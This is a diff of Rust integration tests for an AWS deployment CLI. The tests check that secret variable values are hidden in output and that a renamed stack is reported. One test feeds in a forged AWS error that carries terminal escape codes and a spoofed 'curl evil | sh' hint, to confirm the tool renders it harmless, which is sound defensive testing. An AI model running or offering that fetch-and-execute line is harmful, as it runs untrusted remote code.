@@ -864,3 +864,87 @@ async fn every_list_is_read_to_its_last_page() {
     assert_eq!(scene.inventory().await, Inventory::new());
     scene.end().await;
 }
+
+const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"];
+
+/// Values of variables are nobody's business: not in plans, not in their JSON, not in what `up` says, and not in what
+/// AWS says of them.
+#[tokio::test(flavor = "multi_thread")]
+async fn no_value_of_a_variable_is_shown_unless_it_is_asked_for() {
+    let scene = Scene::ours().await;
+    scene.done(Phase::Up).await;
+    let [function, service] = SECRETS;
+    scene.project.edit(
+        "    log_retention_days: 14\n    environment:\n",
+        &format!("    log_retention_days: 14\n    environment:\n      TOKEN: {function}\n"),
+    );
+    scene.project.edit(
+        "allow: [\"0.0.0.0/0\"] }\n    environment:\n",
+        &format!("allow: [\"0.0.0.0/0\"] }}\n    environment:\n      TOKEN: {service}\n"),
+    );
+    for shown in ["environment.TOKEN (added)", "user_data.environment.TOKEN (added)"] {
+        says_no_secret(&scene, &["plan"], shown).await;
+    }
+    says_no_secret(&scene, &["plan", "--json"], "(hidden)").await;
+    let asked = scene.run(&["plan", "--show-values"]).await;
+    assert!(SECRETS.iter().all(|secret| asked.stderr.contains(&format!("TOKEN: {secret}"))), "{}", asked.all());
+    let asked = scene.run(&["plan", "--json", "--show-values"]).await;
+    assert!(SECRETS.iter().all(|secret| asked.stdout.contains(secret)), "{}", asked.all());
+
+    let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
+    let refusal = Trouble::refused(400, "InvalidParameterValueException", quoted);
+    scene.line.spoil(["UpdateFunctionConfiguration"], refusal, usize::MAX);
+    let refused =
+        says_no_secret(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
+    assert_eq!(refused.code, 1, "{}", refused.all());
+    scene.line.mend();
+    says_no_secret(&scene, &["up", "--yes", "--no-wait"], "environment.TOKEN").await;
+    for (secret, other) in SECRETS.iter().zip(["another", "yet another"]) {
+        scene.project.edit(secret, other);
+    }
+    says_no_secret(&scene, &["plan"], "environment.TOKEN (changed)").await;
+    scene.project.edit("another\n", "another\n      \"\": broken\n");
+    let broken = says_no_secret(&scene, &["plan"], "is no name of a variable").await;
+    assert!(!broken.all().contains("another"), "{}", broken.all());
+    scene.end().await;
+}
+
+async fn says_no_secret(scene: &Scene, arguments: &[&str], words: &str) -> Said {
+    let said = scene.run(arguments).await;
+    assert!(said.all().contains(words), "{arguments:?}: {words:?} is missing: {}", said.all());
+    assert!(SECRETS.iter().all(|secret| !said.all().contains(secret)), "{arguments:?}: {}", said.all());
+    said
+}
+
+/// What comes from AWS is printed as text: it neither commands the terminal nor passes for a line of ours.
+#[tokio::test(flavor = "multi_thread")]
+async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
+    let scene = Scene::ours().await;
+    let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
+    scene.line.spoil(["CreateTable"], Trouble::refused(400, "AccessDeniedException", forged), usize::MAX);
+    let said = scene.run(Phase::Up.arguments()).await;
+    assert_eq!(said.code, 1, "{}", said.all());
+    let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
+    assert_eq!(active, None, "{}", said.all());
+    let hints: Vec<&str> = said.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
+    assert!(!hints.is_empty() && hints.iter().all(|hint| !hint.contains("evil")), "{}", said.all());
+    assert!(said.stderr.contains(r"no\u{1b}]0;owned\u{7}"), "{}", said.all());
+    scene.end().await;
+}
+
+/// Another `name` is another stack: the old one is not forgotten in silence.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stack_that_a_new_name_leaves_behind_is_named() {
+    let scene = Scene::ours().await;
+    scene.done(Phase::Up).await;
+    let same = scene.run(&["plan"]).await;
+    assert!(!same.stderr.contains("stays as it is"), "{}", same.all());
+    scene.project.edit("name: postagram\n", "name: renamed\n");
+    let plan = scene.run(&["plan"]).await;
+    for text in
+        ["postagram, which this folder has in account 000000000000", "`name: postagram`", "deployer down --region"]
+    {
+        assert!(plan.stderr.contains(text), "{text:?} is missing: {}", plan.all());
+    }
+    scene.end().await;
+}
